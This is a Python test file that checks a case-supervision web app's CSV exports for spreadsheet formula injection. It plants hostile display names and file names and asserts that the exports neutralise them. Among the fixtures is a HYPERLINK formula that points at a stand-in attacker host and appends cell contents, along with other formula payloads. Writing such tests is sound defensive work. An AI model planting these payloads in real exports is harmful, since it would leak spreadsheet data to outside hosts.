"""CSV exports are inert: no cell a spreadsheet would evaluate, whatever users named their files
or themselves; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from sqlalchemy import select

import engine
from models import HumanTask, User
from tests.conftest import SHANGHAI
from tests.helpers import FACTS_500K, act
from web.db import db
from web.supervision_csv import FORMULA_START, inert

from .helpers import login, post
from .test_evidence import upload

HOSTILE_NAMES = ("=HYPERLINK(evil.example&A1,点此)", "-2+3", "+1+1")


@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(1,1)", "'@SUM(1,1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
    ("-15.0", "-15.0"), ("+3", "+3"), ("10.0", "10.0"), ("42", "42"), ("", ""), (None, ""),
    ("甲公司 = 乙公司", "甲公司 = 乙公司"), ("a-b", "a-b"),
])
def test_cells(cell, shown):
    assert inert(cell) == shown


def test_numbers_stay_numbers():
    assert inert(-15.5) == -15.5 and inert(3) == 3 and inert(True) == "True"


def read(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or inert(cell) == cell, (cell, row)


def test_hostile_file_and_user_names_are_neutralised_in_both_exports(app, client_for, clock):
    with db.new_session(app) as session:
        engine.create_user(session, "mallory", "pw-mallory-2026", "@SUM(1,1)", "samr", ["handler", "head"])
    mallory = app.test_client()
    assert login(mallory, "mallory", "pw-mallory-2026").status_code == 302
    with db.new_session(app) as session:
        user = session.scalar(select(User).where(User.username == "mallory"))
        case = engine.create_case(session, user, "+1+1 某公司配方泄露案")
        case_id = case.id
        act(session, user, case_id, "register_facts",  # the head's decision is due in 3 days
            {**FACTS_500K, "signing_officers": ["mallory", "samr_handler"]})
    # Colleagues whose display names look like formulas add evidence to the case.
    for i, display in enumerate(HOSTILE_NAMES):
        with db.new_session(app) as session:
            engine.create_user(session, f"colleague{i}", "pw-colleague-2026", display, "samr", ["handler"])
        colleague = app.test_client()
        assert login(colleague, f"colleague{i}", "pw-colleague-2026").status_code == 302
        assert upload(colleague, case_id, b"plain text evidence\n", f"{display}.txt").status_code == 303
    with db.new_session(app) as session:
        task = session.scalar(select(HumanTask).where(HumanTask.case_id == case_id, HumanTask.state == "open"))
        task_id = task.id
    assert post(mallory, f"/tasks/{task_id}/claim", token_from=f"/tasks/{task_id}").status_code == 303

    supervisor = client_for("office_supervisor")
    timeline = read(supervisor.get(f"/supervision/cases/{case_id}/timeline.csv"))
    assert_inert(timeline)
    cells = {cell for row in timeline for cell in row}
    assert "'@SUM(1,1)" in cells  # the actors' display names
    assert {"'" + display for display in HOSTILE_NAMES} <= cells

    clock.set(datetime(2026, 3, 20, 10, 0, tzinfo=SHANGHAI))  # the claimed task is overdue
    supervisor = client_for("office_supervisor")  # the earlier login has idled out meanwhile
    overdue = read(supervisor.get("/supervision/overdue.csv"))
    assert_inert(overdue)
    [row] = [r for r in overdue[1:] if r[5] == "'@SUM(1,1)"]
    assert float(row[-2]) > 0, "hours past due stay a number"
    due_soon = read(supervisor.get("/supervision/overdue.csv?status=due_soon"))
    assert_inert(due_soon)


def test_negative_hours_are_written_as_numbers(app, client_for, clock):
    with db.new_session(app) as session:
        users = {u.username: u for u in session.scalars(select(User))}
        case = engine.create_case(session, users["samr_handler"], "到期提醒案")
        act(session, users["samr_handler"], case.id, "register_facts", FACTS_500K)
    clock.set(datetime(2026, 3, 5, 9, 0, tzinfo=SHANGHAI))
    [row] = read(client_for("office_supervisor").get("/supervision/overdue.csv?status=due_soon"))[1:]
    assert row[-2] == "-15.0"
